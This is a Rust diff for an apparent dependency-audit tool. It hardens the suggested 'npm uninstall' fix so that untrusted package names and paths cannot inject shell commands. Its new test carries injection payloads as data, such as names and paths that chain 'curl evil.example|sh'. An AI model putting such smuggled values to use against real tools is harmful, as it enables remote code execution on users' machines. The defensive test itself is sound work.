@@ -12,8 +12,9 @@ use tokio_util::sync::CancellationToken;
 use super::{Repo, is_aside, is_lock, listed, name_of, named};
 use crate::model::{Confidence, Coverage, Finding, Location, RuleKind, RuleMeta, Severity, Span};
 use crate::probe::files::FileEntry;
-use crate::probe::packages::{Declared, Ecosystem, LockFile, Manager, Manifest, Packages, Scope};
+use crate::probe::packages::{Declared, Ecosystem, LockFile, Manager, Manifest, Packages, Scope, typed};
 use crate::probe::repository::manifests;
+use crate::probe::repository::repo::folder_of;
 
 mod implicit;
 
@@ -232,8 +233,6 @@ fn finding(manifest: &Manifest, lock: &LockFile, unused: &[&Declared]) -> Option
         1 => format!("`{}` installs {all}, and nothing in the project names it", manifest.path),
         _ => format!("`{}` installs {all}, and nothing in the project names them", manifest.path),
     };
-    let folder =
-        manifest.path.strip_suffix("/package.json").map(|folder| format!("cd {folder} && ")).unwrap_or_default();
     let command = match lock.manager {
         Manager::Pnpm => "pnpm remove",
         Manager::YarnClassic | Manager::YarnBerry => "yarn remove",
@@ -241,7 +240,13 @@ fn finding(manifest: &Manifest, lock: &LockFile, unused: &[&Declared]) -> Option
         _ => "npm uninstall",
     };
     let names: Vec<&str> = unused.iter().map(|one| called(one)).collect();
-    let fix = format!("Run `{folder}{command} {}`, then the tests and the production build.", names.join(" "));
+    // Names come from strangers: one that a shell would read as more than a name is not put into a command.
+    let typed = names.iter().all(|name| typed::is_plain(name)).then(|| format!("{command} {}", names.join(" ")));
+    let fix = match typed.and_then(|command| typed::in_folder(folder_of(&manifest.path), &command)) {
+        Some(command) => format!("Run `{command}`, then the tests and the production build."),
+        None => "Remove what is listed here from the manifest, install, and run the tests and the production build."
+            .to_owned(),
+    };
     let lines: Vec<String> = unused.iter().map(|one| format!("line {}  {}", one.line, called(one))).collect();
     let location = Location::File { path: manifest.path.clone(), span: Some(Span::line(first.line)) };
     Some(Finding::new(&META, location, "unused", message).fix(fix).evidence(listed(&lines)))
@@ -291,6 +296,25 @@ mod tests {
             ["package.json:4 Run `npm uninstall picomatch got`, then the tests and the production build."]
         );
         assert!(matches!(coverage, Coverage::Part(_)), "silence is no evidence");
+    }
+
+    #[test]
+    fn a_command_holds_nothing_but_names() {
+        let finding = |path: &str, ask: &str| {
+            let manifest = samples::manifest(path, &[ask]);
+            let lock = samples::lock(Manager::Npm, "package-lock.json", path, &[]);
+            super::finding(&manifest, &lock, &[&manifest.declared[0]]).unwrap().fix
+        };
+        assert!(finding("apps/web/package.json", "zod ^4").starts_with("Run `cd apps/web && npm uninstall zod`"));
+        assert!(finding("my shop/package.json", "zod ^4").starts_with("Run `cd \"my shop\" && npm uninstall zod`"));
+        for (path, ask) in [
+            ("package.json", "x;curl${IFS}evil.example ^1"),
+            ("package.json", "--global ^1"),
+            ("a;curl evil.example|sh/package.json", "zod ^4"),
+        ] {
+            let fix = finding(path, ask);
+            assert!(!fix.contains('`') && !fix.contains("evil") && !fix.contains("--global"), "{fix}");
+        }
     }
 
     #[test]
